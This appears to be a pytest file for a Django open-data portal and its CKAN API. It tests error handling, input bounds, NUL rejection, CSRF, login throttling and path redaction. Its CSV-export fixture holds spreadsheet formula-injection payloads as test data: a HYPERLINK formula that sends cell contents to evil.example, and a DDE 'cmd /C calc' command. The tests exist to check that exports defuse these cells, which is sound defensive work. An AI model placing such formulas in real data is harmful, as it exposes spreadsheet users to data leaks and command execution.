"""Hostile input at the HTTP surface (issue 13, part 4): every API error is JSON with a
4xx, integer parameters are bounded, CSV exports defuse formula cells, the CKAN endpoint
wants CSRF from sessions, sign-ins are throttled, and no message carries a server path or
a terminal escape code.

Each test replays what answered a 500, an HTML page, a formula or an unthrottled
sign-in before (the shapes are in the issue)."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest
from django.conf import settings as django_settings
from django.core.exceptions import ValidationError
from django.test import Client

from gongshu.catalog import services as catalog_services
from gongshu.catalog.models import Dataset
from gongshu.interop.ckan import actions as ckan_actions
from gongshu.tabular.models import Ingest
from tests.interop.conftest import interop_catalog, resource_id
from tests.tabular.factories import TRAFFIC, make_version

pytestmark = pytest.mark.django_db
__all__ = ["interop_catalog"]  # the interop tests' catalog, as a fixture here too

HUGE = 10**30


@pytest.fixture
def anonymous():
    """A client that answers a server error with its response, as a real server does."""
    return Client(raise_request_exception=False)


@pytest.fixture
def staff(staff_user):
    client = Client(raise_request_exception=False)
    client.force_login(staff_user)
    return client


@pytest.fixture
def traffic(make_dataset):
    dataset = make_dataset(name="road-traffic")
    make_version(dataset, TRAFFIC)
    return dataset


def assert_clean(response) -> None:
    """No server directory, no escape code, no HTML page."""
    text = response.content.decode()
    assert "\x1b" not in text and "\\u001b" not in text
    for root in (str(django_settings.DATA_DIR), str(django_settings.VAR_DIR)):
        assert root not in text
    assert "<html" not in text.lower()


def assert_api_error(response, status: int) -> dict:
    assert response.status_code == status, response.content[:500]
    assert response["Content-Type"].startswith("application/json")
    body = response.json()
    assert isinstance(body["detail"], str) and body["detail"]
    assert_clean(response)
    return body


def assert_ckan_error(response, status: int, kind: str) -> dict:
    assert response.status_code == status, response.content[:500]
    assert response["Content-Type"].startswith("application/json")
    body = response.json()
    assert body["success"] is False and body["error"]["__type"] == kind
    assert_clean(response)
    return body["error"]


# --- 1. Every API error is JSON with a 4xx -------------------------------------------


def test_a_body_over_the_memory_limit_is_413_json(staff, anonymous, settings):
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 1000
    body = json.dumps({"title_zh": "x" * 2000})
    got = staff.post("/api/v1/datasets", body, content_type="application/json")
    assert "larger than" in assert_api_error(got, 413)["errors"]["body"][0]
    got = anonymous.post("/api/3/action/package_list", body, content_type="application/json")
    assert "larger than" in assert_ckan_error(got, 413, "Bad Request")["message"]


def test_a_2000_character_file_name_is_400_json(staff, traffic):
    boundary = "gongshu-boundary"
    name = "a" * 2000 + ".csv"
    body = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\n'
        f"Content-Type: text/csv\r\n\r\na,b\r\n1,2\r\n--{boundary}--\r\n"
    ).encode()
    got = staff.post(
        "/api/v1/datasets/road-traffic/uploads",
        body,
        content_type=f"multipart/form-data; boundary={boundary}",
    )
    assert "file name" in assert_api_error(got, 400)["errors"]["file"][0]


def test_malformed_json_is_400_naming_the_body(staff):
    got = staff.post("/api/v1/datasets", '{"title_zh": ', content_type="application/json")
    assert "JSON" in assert_api_error(got, 400)["errors"]["body"][0]


def test_unknown_routes_are_404_json(anonymous):
    assert_api_error(anonymous.get("/api/v1/no-such-route"), 404)
    assert_api_error(anonymous.get("/api/v1/datasets/x/y/z"), 404)
    assert_ckan_error(anonymous.get("/api/3/no/such/route"), 404, "Not Found Error")


def test_a_method_the_route_does_not_take_is_405_json(anonymous):
    got = anonymous.delete("/api/v1/datasets")
    assert "DELETE" in assert_api_error(got, 405)["detail"]
    assert "GET" in got["Allow"]
    got = anonymous.put("/api/3/action/package_list")
    assert_ckan_error(got, 405, "Bad Request")


def test_a_server_error_under_the_api_is_json_without_a_traceback(anonymous, monkeypatch):
    def broken(*args, **kwargs):
        raise RuntimeError(f"boom in {django_settings.DATA_DIR}/versions/secret.parquet")

    monkeypatch.setattr(catalog_services, "filter_datasets", broken)
    got = anonymous.get("/api/v1/datasets")
    assert got.status_code == 500 and got["Content-Type"].startswith("application/json")
    assert "boom" not in got.content.decode() and "Traceback" not in got.content.decode()
    assert_clean(got)


# --- 1. Integer parameters are range-checked -----------------------------------------


@pytest.mark.parametrize("value", [HUGE, -1])
def test_dataset_list_offsets_are_bounded(anonymous, make_dataset, value):
    make_dataset(name="one")
    body = assert_api_error(anonymous.get("/api/v1/datasets", {"offset": value}), 400)
    assert "offset" in body["errors"]


@pytest.mark.parametrize(
    ("action", "param"),
    [
        ("package_list", "offset"),
        ("package_list", "limit"),
        ("package_search", "start"),
        ("package_search", "rows"),
        ("organization_list", "offset"),
        ("datastore_search", "offset"),
        ("datastore_search", "limit"),
    ],
)
def test_ckan_integers_are_bounded(anonymous, interop_catalog, action, param):
    params = {param: HUGE}
    if action == "datastore_search":
        params["resource_id"] = resource_id(interop_catalog["traffic"])
    error = assert_ckan_error(
        anonymous.get(f"/api/3/action/{action}", params), 409, "Validation Error"
    )
    assert param in error
    # The same through a JSON POST, where the number arrives as a number.
    got = anonymous.post(
        f"/api/3/action/{action}", json.dumps(params), content_type="application/json"
    )
    assert param in assert_ckan_error(got, 409, "Validation Error")


@pytest.mark.parametrize("field", ["contact_name", "spatial_coverage", "title_en", "licence"])
def test_null_text_attributes_are_stored_empty_or_refused_by_name(staff, transport_bureau, field):
    """Documented: null on a text attribute clears it (stored ""). One that may not be
    empty is refused with its name; nothing reaches the database as NULL."""
    payload = {"title_zh": "道路", "domain": "transport", "provider": "sh-transport", field: None}
    got = staff.post("/api/v1/datasets", json.dumps(payload), content_type="application/json")
    if field == "licence":  # required to be non-empty
        assert field in assert_api_error(got, 400)["errors"]
        return
    assert got.status_code == 201, got.content
    assert got.json()[field] == ""
    assert getattr(Dataset.objects.get(name=got.json()["name"]), field) == ""
    patched = staff.patch(
        f"/api/v1/datasets/{got.json()['name']}",
        json.dumps({field: None}),
        content_type="application/json",
    )
    assert patched.status_code == 200 and patched.json()[field] == ""


def test_a_null_required_title_is_refused_by_name(staff, transport_bureau):
    payload = {"title_zh": None, "domain": "transport", "provider": "sh-transport"}
    got = staff.post("/api/v1/datasets", json.dumps(payload), content_type="application/json")
    assert "title_zh" in assert_api_error(got, 400)["errors"]


# --- NUL characters: PostgreSQL text cannot hold one --------------------------------


def test_a_nul_in_a_query_parameter_is_400_naming_it(anonymous, make_dataset):
    """Found by schemathesis on PostgreSQL: ?q=%00 answered a server error."""
    make_dataset(name="road-traffic")
    got = anonymous.get("/api/v1/datasets", {"q": "道路\x00"})
    body = assert_api_error(got, 400)
    assert "q" in body["errors"] and "NUL" in body["detail"]
    assert anonymous.get("/api/v1/datasets", {"q": "道路"}).status_code == 200


def test_a_nul_in_a_json_body_is_400_and_nothing_is_stored(staff, transport_bureau):
    payload = {"title_zh": "道路\u0000", "domain": "transport", "provider": "sh-transport"}
    got = staff.post("/api/v1/datasets", json.dumps(payload), content_type="application/json")
    assert "body" in assert_api_error(got, 400)["errors"]
    assert not Dataset.objects.filter(title_zh__startswith="道路").exists()


def test_a_nul_under_ckan_is_ckans_error_and_in_the_portal_a_plain_400(anonymous, interop_catalog):
    got = anonymous.get("/api/3/action/package_search", {"q": "\x00"})
    assert_ckan_error(got, 400, "Bad Request")
    page = anonymous.get("/search/", {"q": "a\x00"})
    assert page.status_code == 400 and "NUL" in page.content.decode()
    assert anonymous.get("/search/", {"q": "a"}).status_code == 200


# --- 2. CSV exports defuse formulas ---------------------------------------------------

HOSTILE = """
SELECT * FROM (VALUES
    (1, '=HYPERLINK("http://evil.example/?"&A1,"click")', -5, 'plain'),
    (2, '+cmd|'' /C calc''!A0', 3, '-12.5'),
    (3, '-2+3', 0, '@SUM(A1:A9)'),
    (4, chr(9) || '=1+1', 7, chr(13) || '=1+1'),
    (5, '＝1+1', -1, 'a=b')
) AS t(id, "=note", n, other)
"""


@pytest.fixture
def hostile(make_dataset):
    dataset = make_dataset(name="hostile")
    make_version(dataset, HOSTILE)
    return dataset


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.content
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_csv_export_defuses_formula_cells_and_keeps_numbers(anonymous, hostile):
    rows = csv_rows(anonymous.get("/api/v1/datasets/hostile/export.csv"))
    assert rows[0] == ["id", "'=note", "n", "other"]
    cells = {row[0]: row[1:] for row in rows[1:]}
    assert cells["1"] == ['\'=HYPERLINK("http://evil.example/?"&A1,"click")', "-5", "plain"]
    assert cells["2"] == ["'+cmd|' /C calc'!A0", "3", "-12.5"]  # a number as text stays
    assert cells["3"] == ["'-2+3", "0", "'@SUM(A1:A9)"]
    assert cells["4"] == ["'\t=1+1", "7", "'\r=1+1"]
    assert cells["5"] == ["'＝1+1", "-1", "a=b"]
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "@", "\t", "\r", "＝")), row


def test_csv_export_raw_writes_cells_as_stored(anonymous, hostile):
    rows = csv_rows(anonymous.get("/api/v1/datasets/hostile/export.csv", {"raw": "true"}))
    assert rows[0][1] == "=note"
    assert rows[1][1].startswith("=HYPERLINK(")


def test_xlsx_export_writes_formulas_as_text(anonymous, hostile):
    got = anonymous.get("/api/v1/datasets/hostile/export.xlsx")
    assert got.status_code == 200
    book = zipfile.ZipFile(io.BytesIO(b"".join(got.streaming_content)))
    sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet  # no cell is a formula


# --- 3. The CKAN endpoint: CSRF for sessions, none for tokens -------------------------


def test_ckan_session_post_needs_csrf(interop_catalog, department_clerk, make_token):
    session = Client(enforce_csrf_checks=True)
    session.force_login(department_clerk)
    body = json.dumps({"id": "traffic-flow"})
    refused = session.post("/api/3/action/package_show", body, content_type="application/json")
    assert "CSRF" in assert_ckan_error(refused, 403, "Authorization Error")["message"]

    session.get("/")  # the portal sets the csrftoken cookie
    csrf = session.cookies["csrftoken"].value
    allowed = session.post(
        "/api/3/action/package_show",
        body,
        content_type="application/json",
        headers={"X-CSRFToken": csrf},
    )
    assert allowed.status_code == 200 and allowed.json()["success"] is True
    assert session.get("/api/3/action/package_show", {"id": "traffic-flow"}).status_code == 200

    token = make_token(department_clerk, "read")
    for header in ({"Authorization": token}, {"X-CKAN-API-Key": token}):
        by_token = Client(enforce_csrf_checks=True).post(
            "/api/3/action/package_show", body, content_type="application/json", headers=header
        )
        assert by_token.status_code == 200, by_token.content
    anonymous = Client(enforce_csrf_checks=True)
    got = anonymous.post("/api/3/action/package_show", body, content_type="application/json")
    assert got.status_code == 200


# --- 4. Sign-ins are throttled per user and per address -------------------------------


@pytest.fixture
def throttled(settings):
    settings.AXES_ENABLED = True
    settings.AXES_FAILURE_LIMIT = 3
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


@pytest.fixture
def walker(django_user_model, throttled):
    return django_user_model.objects.create_user("walker", "w@example.org", "right-password-9")


def portal_sign_in(client, username, password, address="192.0.2.1"):
    return client.post("/login/", {"username": username, "password": password}, REMOTE_ADDR=address)


def test_the_portal_locks_a_user_after_failures_from_any_address(walker):
    client = Client()
    for n in range(3):
        got = portal_sign_in(client, "walker", "wrong", address=f"192.0.2.{n + 1}")
    assert got.status_code == 429
    # Locked for this user everywhere, even with the right password.
    got = portal_sign_in(client, "walker", "right-password-9", address="198.51.100.7")
    assert got.status_code == 429
    assert got["Retry-After"] == "900"
    page = got.content.decode()
    assert "Signing in is locked" in page and "15 minutes" in page
    assert 'class="top"' in page  # the portal's own page, not a bare message
    assert "_auth_user_id" not in client.session


def test_the_portal_locks_an_address_after_failures_for_any_user(walker, django_user_model):
    client = Client()
    for n in range(3):
        portal_sign_in(client, f"nobody-{n}", "wrong", address="203.0.113.9")
    got = portal_sign_in(client, "walker", "right-password-9", address="203.0.113.9")
    assert got.status_code == 429
    # Another address may still sign the user in.
    got = portal_sign_in(Client(), "walker", "right-password-9", address="203.0.113.10")
    assert got.status_code == 302


def test_the_lockout_page_speaks_chinese(walker):
    client = Client(headers={"Accept-Language": "zh-hans"})
    for _n in range(3):
        got = portal_sign_in(client, "walker", "wrong")
    assert got.status_code == 429
    page = got.content.decode()
    assert "登录已锁定" in page and "15 分钟" in page


def test_the_api_session_sign_in_is_throttled_with_429_json(walker):
    client = Client(enforce_csrf_checks=True, raise_request_exception=False)
    session = client.get("/api/v1/session").json()
    assert session["username"] is None
    headers = {"X-CSRFToken": session["csrf_token"]}

    def sign_in(password):
        return client.post(
            "/api/v1/session",
            json.dumps({"username": "walker", "password": password}),
            content_type="application/json",
            headers=headers,
        )

    assert "password" in assert_api_error(sign_in("wrong"), 400)["errors"]
    assert sign_in("wrong").status_code == 400
    locked = sign_in("wrong")
    assert "locked" in assert_api_error(locked, 429)["detail"]
    assert locked["Retry-After"] == "900"
    assert assert_api_error(sign_in("right-password-9"), 429)
    assert client.get("/api/v1/me").status_code == 401  # not signed in


def test_the_api_session_sign_in_works_and_needs_csrf(walker):
    client = Client(enforce_csrf_checks=True, raise_request_exception=False)
    body = json.dumps({"username": "walker", "password": "right-password-9"})
    refused = client.post("/api/v1/session", body, content_type="application/json")
    assert "CSRF" in assert_api_error(refused, 403)["detail"]
    token = client.get("/api/v1/session").json()["csrf_token"]
    got = client.post(
        "/api/v1/session", body, content_type="application/json", headers={"X-CSRFToken": token}
    )
    assert got.status_code == 200 and got.json()["username"] == "walker"
    assert client.get("/api/v1/me").json()["username"] == "walker"
    fresh = client.get("/api/v1/session").json()["csrf_token"]
    assert client.delete("/api/v1/session", headers={"X-CSRFToken": fresh}).status_code == 204
    assert client.get("/api/v1/me").status_code == 401


# --- 5. No server path, no escape codes ------------------------------------------------


def test_error_messages_carry_no_server_path_and_no_escape_codes(anonymous, monkeypatch):
    leaky = (
        f"\x1b[31mCannot open {django_settings.DATA_DIR}/versions/ab/abcdef.parquet\x1b[0m "
        f"(staged at {django_settings.VAR_DIR}/staging/x/source)"
    )

    def broken(*args, **kwargs):
        raise ValidationError({"q": leaky})

    monkeypatch.setattr(catalog_services, "filter_datasets", broken)
    got = anonymous.get("/api/v1/datasets")
    message = assert_api_error(got, 400)["errors"]["q"][0]
    assert message.startswith("Cannot open …") and "(staged at …)" in message

    def ckan_broken(call):
        raise ValidationError({"q": leaky})

    monkeypatch.setitem(ckan_actions.ACTIONS, "package_list", ckan_broken)
    error = assert_ckan_error(anonymous.get("/api/3/action/package_list"), 409, "Validation Error")
    assert error["q"][0].startswith("Cannot open …")


def test_a_successful_answer_names_no_data_directory(staff, traffic, staff_user):
    """An ingest's error and report, as a worker wrote them (the staging path in them),
    reach the caller without the data directory."""
    staged = f"{django_settings.DATA_DIR}/staging/abc/source"
    ingest = Ingest.objects.create(
        dataset=traffic,
        status="failed",
        source_name="x.csv",
        staged_path=staged,
        error=f"Could not read {staged}: not UTF-8",
        report={"errors": [{"message": f"{staged}:3: bad row"}]},
        created_by=staff_user,
    )
    got = staff.get(f"/api/v1/ingests/{ingest.uid}")
    assert got.status_code == 200
    assert_clean(got)
    assert got.json()["error"] == "Could not read …: not UTF-8"
    assert got.json()["report"]["errors"][0]["message"] == "…:3: bad row"
